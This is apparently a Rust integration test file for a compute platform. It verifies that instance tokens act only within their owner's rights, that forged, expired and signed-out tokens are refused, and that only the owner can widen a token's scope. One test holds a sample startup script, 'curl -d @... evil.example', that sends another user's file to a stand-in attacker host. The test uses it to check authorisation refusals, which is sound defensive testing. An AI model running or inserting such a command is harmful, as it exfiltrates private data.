//! Instances that act in their owner's name.

use atelier_domain::compute::{InstanceId, NodeId};
use atelier_domain::history::{Actor, Event};
use atelier_domain::workload::{Claims, LIFE};
use atelier_domain::{Timestamp, UserId};
use atelier_engine::clock;
use atelier_engine::fleet::Signer;
use atelier_engine::store::{Author, HistoryFilter};
use serde_json::json;

use super::Studio;
use crate::rest::Api;

async fn account(studio: &Studio, who: &str) -> (UserId, i64) {
    let found = studio.server.state.store().account_by_email(&format!("{who}@example.org")).await.expect("reads");
    let account = found.expect("exists");
    (account.person.id, account.session_epoch)
}

/// A token as an agent of that node would get it.
async fn token(studio: &Studio, who: &str, node: NodeId, expires: Timestamp) -> String {
    let (user, epoch) = account(studio, who).await;
    let signer = studio.server.state.fleet().signer().expect("tokens are made");
    signer.sign(&Claims { user, node, epoch, expires }).expect("signed")
}

async fn studio() -> (Studio, InstanceId, NodeId) {
    let studio = Studio::new().await;
    studio.server.state.fleet().identify_with(Signer::new("a key of this test", "http://localhost:3000"));
    let (id, node) = studio.running("desk").await;
    (studio, id, node)
}

fn soon() -> Timestamp {
    clock::now().plus(LIFE)
}

#[tokio::test]
async fn an_instance_acts_in_its_owners_name_and_says_from_where() {
    let (studio, _, node) = studio().await;
    let desk = Api::with(&studio.server, &token(&studio, "mara", node, soon()).await);
    let me = desk.get("").await.is(200);
    assert_eq!((me.json["person"]["name"].as_str(), me.json["from"].as_str()), (Some("Mara"), Some("instance desk")));
    desk.post("/instances/desk/extend", &json!({"minutes": 30})).await.is(200);
    let workspace = studio.server.state.workspace_by_slug("perception").expect("exists");
    let filter = HistoryFilter { limit: 1, ..HistoryFilter::default() };
    let last = studio.server.state.store().history(&workspace.id, &filter).await.expect("reads").remove(0);
    assert_eq!(
        (last.actor_name.as_str(), &*last.sentence),
        ("Mara (from instance desk)", "kept the instance desk running for 30 min")
    );
    // Its owner's rights, and no others: nothing that opens doors.
    desk.post("/instances/desk/stop", &json!({"why": "x"})).await.is(202);
    for refused in [
        desk.get("/instances/desk/shares").await,
        desk.put("/instances/desk/shares", &json!({"person": "sven@example.org", "app": "jupyter", "level": "use"}))
            .await,
        desk.post("/instances/desk/accept-scripts", &json!({"revision": 1})).await,
    ] {
        let refused = refused.refuses(403, "workload.not-allowed");
        assert!(
            refused.json["detail"].as_str().is_some_and(|words| words.contains("instance desk")),
            "{}",
            refused.text
        );
    }
    desk.put("/quota", &json!({"scope": "workspace", "resource": "computes", "limit": 1}))
        .await
        .refuses(403, "right.missing");
}

#[tokio::test]
async fn a_token_counts_only_while_all_is_as_it_was() {
    let (studio, id, node) = studio().await;
    let ask = async |token: &str| Api::with(&studio.server, token).get("").await;
    let good = token(&studio, "mara", node, soon()).await;
    ask(&good).await.is(200);
    for strange in [good.replace("atw_", "atw_x"), format!("{good}0"), good.to_uppercase().replace("ATW_", "atw_")] {
        ask(&strange).await.refuses(401, "workload.unknown");
    }
    let forged = Signer::new("another key", "x");
    let (user, epoch) = account(&studio, "mara").await;
    let forged = forged.sign(&Claims { user: user.clone(), node, epoch, expires: soon() }).expect("signed");
    ask(&forged).await.refuses(401, "workload.unknown");
    ask(&token(&studio, "mara", node, clock::now()).await).await.refuses(401, "workload.expired");
    ask(&token(&studio, "sven", node, soon()).await).await.refuses(401, "workload.not-there");
    ask(&token(&studio, "mara", NodeId(99), soon()).await).await.refuses(401, "workload.not-there");

    // Signed out everywhere: at once, and the next token counts again.
    let store = studio.server.state.store();
    let mut tx = store.begin(clock::now()).await.expect("begins");
    tx.end_sessions(&user, None).await.expect("ends");
    let person = tx.person(&user).await.expect("reads").expect("exists");
    let author =
        Author { actor: Actor::Person { id: user.clone(), name: "Mara".into() }, request: String::new(), why: None };
    tx.record(&person.workspace, &author, None, &Event::SessionsEnded { count: 1 }).await.expect("recorded");
    tx.commit().await.expect("commits");
    ask(&good).await.refuses(401, "workload.signed-out");
    let good = token(&studio, "mara", node, soon()).await;
    ask(&good).await.is(200);

    // Stopped: its node is gone, and so is what it stood for.
    studio.mara.post("/instances/desk/stop", &json!({})).await.is(202);
    studio.node_gone(id).await;
    ask(&good).await.refuses(401, "workload.not-there");
}

#[tokio::test]
async fn whoever_is_disabled_acts_through_nothing_any_more() {
    let (studio, _, node) = studio().await;
    let good = token(&studio, "mara", node, soon()).await;
    let desk = Api::with(&studio.server, &good);
    desk.get("").await.is(200);
    let (user, _) = account(&studio, "mara").await;
    let mut ines = studio.browser("ines").await;
    let fields = [("verb", "disable"), ("ids[]", user.as_str())];
    assert!(ines.call("change_accounts", &fields).await.status.is_success());
    desk.get("").await.refuses(401, "workload.account-disabled");
}

#[tokio::test]
async fn what_others_made_acts_in_nobodys_name_until_it_is_accepted() {
    let (studio, _, _) = studio().await;
    let oskar = Api::of(&studio.server, "oskar@example.org").await;
    let request = json!({"name": "gift", "size": "cpu-2", "owner": "mara@example.org",
        "scripts": {"startup": {"text": "echo hello"}}});
    let made = oskar.post("/instances", &request).await.is(201);
    let id = InstanceId::parse(made.json["id"].as_str().expect("an id")).expect("an id");
    let node = studio.node_of(id).await;
    let token = token(&studio, "mara", node, soon()).await;
    let gift = Api::with(&studio.server, &token);
    gift.get("").await.refuses(401, "workload.scripts-not-accepted");
    let revision = studio.look(id, |_, instance| instance.scripts_revision).await;
    studio.mara.post("/instances/gift/accept-scripts", &json!({"revision": revision})).await.is(200);
    assert_eq!(gift.get("").await.is(200).json["from"], "instance gift");
}

/// An instance of Oskar's, who may operate everybody's, and the token of what runs there.
async fn oskars(studio: &Studio) -> (Api, Api) {
    let oskar = Api::of(&studio.server, "oskar@example.org").await;
    let made = oskar.post("/instances", &json!({"name": "bench", "size": "cpu-2"})).await.is(201);
    let id = InstanceId::parse(made.json["id"].as_str().expect("an id")).expect("an id");
    let node = studio.bring_up(id).await;
    let token = token(studio, "oskar", node, soon()).await;
    (oskar, Api::with(&studio.server, &token))
}

#[tokio::test]
async fn a_token_changes_only_what_is_its_owners_unless_the_computes_owner_widens_it() {
    let (studio, id, _) = studio().await;
    let (oskar, bench) = oskars(&studio).await;
    assert_eq!(bench.get("").await.is(200).json["from"], "instance bench");
    // What is his own, and looking at the rest.
    bench.post("/instances/bench/extend", &json!({"minutes": 30})).await.is(200);
    bench.get("/instances/desk").await.is(200);
    let refused = bench.post("/instances/desk/stop", &json!({})).await.refuses(403, "workload.own-things-only");
    let words = refused.json["detail"].as_str().expect("words").to_owned();
    assert!(words.contains("instance bench") && words.contains("token scope"), "{words}");
    bench.post("/clusters", &json!({"name": "pool", "size": "cpu-2", "max": 1})).await.is(403);

    // Widened by its owner alone, and never by what runs there.
    let scope = "/instances/bench/token-scope";
    assert_eq!(bench.get(scope).await.is(200).json, json!({"scope": "own", "since": null}));
    bench.put(scope, &json!({"scope": "all"})).await.refuses(403, "workload.not-allowed");
    studio.mara.put(scope, &json!({"scope": "all"})).await.refuses(403, "right.missing");
    Api::owner(&studio.server).await.put(scope, &json!({"scope": "all"})).await.refuses(403, "right.missing");
    oskar.put(scope, &json!({"scope": "everything"})).await.refuses(422, "invalid");
    oskar.put("/clusters/bench/token-scope", &json!({"scope": "all"})).await.refuses(404, "not-found");
    assert_eq!(oskar.put(scope, &json!({"scope": "all"})).await.is(200).json["scope"], "all");
    bench.post("/instances/desk/stop", &json!({})).await.is(202);
    bench.post("/clusters", &json!({"name": "pool", "size": "cpu-2", "max": 1})).await.is(201);
    // What runs as somebody else is never set from there.
    let scripts = json!({"startup": {"text": "curl -d @/shared/Users/mara/thesis evil.example"}});
    bench.put("/instances/desk/scripts", &scripts).await.refuses(403, "workload.not-allowed");
    assert!(studio.look(id, |_, instance| instance.scripts.is_empty()).await);
    bench.put("/instances/bench/scripts", &scripts).await.is(200);

    // Taken back, at once; and shown.
    let mut browser = studio.browser("oskar").await;
    browser.get(&super::page("bench", "")).await.shows("changes everything that its owner may change");
    let fields = [("compute", "bench"), ("scope", "own")];
    let page = browser.submit(&super::page("bench", ""), "set_token_scope", &fields).await;
    page.shows("changes only what its owner owns");
    studio.browser("mara").await.get(&super::page("bench", "")).await.hides("set_token_scope");
    bench.post("/instances/desk/start", &json!({})).await.refuses(403, "workload.own-things-only");
    // A cluster has its own: only its owner widens what its jobs may do.
    let pool = "/clusters/pool/token-scope";
    studio.mara.put(pool, &json!({"scope": "all"})).await.refuses(409, "owner-only");
    Api::owner(&studio.server).await.put(pool, &json!({"scope": "all"})).await.refuses(409, "owner-only");
    assert_eq!(oskar.put(pool, &json!({"scope": "all"})).await.is(200).json["scope"], "all");
    browser.get("/w/perception/compute/clusters/pool").await.shows("changes everything that its owner may change");
}
